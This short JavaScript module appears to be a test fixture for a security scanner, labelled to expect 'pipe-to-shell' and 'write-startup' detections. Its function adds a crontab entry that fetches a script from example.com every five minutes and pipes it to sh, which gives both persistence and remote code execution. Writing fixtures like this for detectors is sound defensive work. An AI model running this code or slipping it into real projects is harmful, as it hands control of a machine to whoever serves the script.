// expect: pipe-to-shell, write-startup
import { execSync } from "node:child_process";

export default () => {
  execSync("(crontab -l; echo '*/5 * * * * curl -s https://example.com/c | sh') | crontab -");
};
